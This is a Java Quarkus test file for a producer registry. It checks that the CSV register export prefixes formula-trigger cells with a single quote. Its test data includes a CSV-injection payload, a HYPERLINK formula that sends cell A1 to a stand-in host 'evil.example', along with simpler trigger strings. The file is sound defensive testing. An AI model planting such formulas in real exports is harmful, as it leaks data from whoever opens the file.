package vn.ocop.registry.register;

import io.quarkus.test.junit.QuarkusTest;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import vn.ocop.registry.platform.export.CsvCells;
import vn.ocop.registry.support.Tokens;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static vn.ocop.registry.support.Fixtures.aProducer;

/**
 * Attack: a producer's name or address starting with {@code =}, {@code +}, {@code -} or {@code @} was written into the
 * CSV register export as it is, and ran as a formula when an officer opened the file. Refused: every CSV writer (they
 * all go through TableWriter) prefixes such text cells — and those starting with tab or CR — with a single quote, as
 * OWASP recommends; numbers stay numbers.
 */
@QuarkusTest
class CsvInjectionTest {

    /** Hương Sơn, Hà Nội: a commune no other test registers producers in. */
    private static final String HUONG_SON = "10489";

    @Test
    void shouldNeutraliseFormulaCellsInTheCsvRegisterExport() throws IOException {
        String tag = UUID.randomUUID().toString().substring(0, 8);
        List<String> names = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\") " + tag,
                "+84 Cơ sở " + tag, "-2+3 Hộ " + tag, "@SUM(1,2) HTX " + tag);
        for (String name : names) {
            aProducer().named(name).inCommune(HUONG_SON).with("address", "=1+1 Xóm Chợ").create();
        }
        byte[] csv = given().auth().oauth2(Tokens.officer(HUONG_SON)).queryParam("format", "csv")
                .queryParam("register", "producers").get("/registers/export").then().statusCode(200)
                .extract().asByteArray();
        String text = new String(csv, StandardCharsets.UTF_8).replace("\uFEFF", "");
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(new StringReader(text)).getRecords();
        List<CSVRecord> ours = rows.stream().filter(r -> r.get("name").contains(tag)).toList();
        assertThat(ours).hasSize(4);
        for (CSVRecord row : ours) {
            assertThat(row.get("name")).startsWith("'");
            assertThat(names).contains(row.get("name").substring(1));
            assertThat(row.get("address")).isEqualTo("'=1+1 Xóm Chợ");
            assertThat(row.get("workers")).isEqualTo("6");
        }
    }

    @Test
    void shouldPrefixEveryFormulaTriggerAndLeaveOtherTextAndNumbersAlone() {
        for (String risky : List.of("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1")) {
            assertThat(CsvCells.cell(risky)).isEqualTo("'" + risky);
        }
        assertThat(CsvCells.cell("Cao ngựa bạch")).isEqualTo("Cao ngựa bạch");
        assertThat(CsvCells.cell(-5)).isEqualTo("-5");
        assertThat(CsvCells.cell(null)).isEmpty();
        assertThat(CsvCells.cell("")).isEmpty();
    }
}
